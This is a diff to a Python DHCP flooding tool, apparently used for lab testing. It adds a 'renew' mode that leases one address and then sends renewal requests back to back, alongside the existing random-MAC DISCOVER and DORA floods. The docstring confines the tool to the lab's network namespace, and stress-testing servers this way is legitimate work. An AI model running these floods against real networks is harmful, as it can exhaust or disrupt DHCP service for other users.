@@ -4,6 +4,7 @@ namespace of the lab; never aimed anywhere else).
 
   dhcp_flood.py dora IFACE COUNT SECONDS      full DORA for COUNT random MACs
   dhcp_flood.py discover IFACE COUNT SECONDS  DISCOVERs only from random MACs
+  dhcp_flood.py renew IFACE COUNT SECONDS     one lease, then COUNT renewals
 
 Both stop after COUNT MACs or SECONDS, whichever comes first, and print one
 JSON line of what the attacker saw (offers and acks received).
@@ -92,7 +93,9 @@ def main():
     time.sleep(0.5)
     start = time.time()
     sent = 0
-    while sent < count and time.time() - start < seconds:
+    if mode == "renew":
+        sent = renew(sock, raw, xids, acked, count, seconds)
+    while mode != "renew" and sent < count and time.time() - start < seconds:
         mac, xid = rand_mac(), random.getrandbits(32)
         if mode == "dora":
             xids[xid] = mac
@@ -121,6 +124,31 @@ def main():
         "naks": seen["naks"],
         "addresses": len(acked),
     }))
+
+
+def renew(sock, raw, xids, acked, count, seconds):
+    """DORA for one MAC, then RENEWING REQUESTs (ciaddr set) back to back."""
+    mac, xid = rand_mac(), random.getrandbits(32)
+    xids[xid] = mac
+    sock.send(frame(mac, xid, [("message-type", "discover")]))
+    deadline = time.time() + 5
+    while not acked and time.time() < deadline:
+        time.sleep(0.05)
+    if not acked:
+        return 0
+    ip = next(iter(acked))
+    req = frame(mac, xid, [("message-type", "request")])
+    req[BOOTP].ciaddr = ip
+    pkt = bytes(req)
+    start = time.time()
+    sent = 0
+    while sent < count and time.time() - start < seconds:
+        try:
+            raw.send(pkt)
+            sent += 1
+        except OSError:
+            pass
+    return sent
 
 
 if __name__ == "__main__":
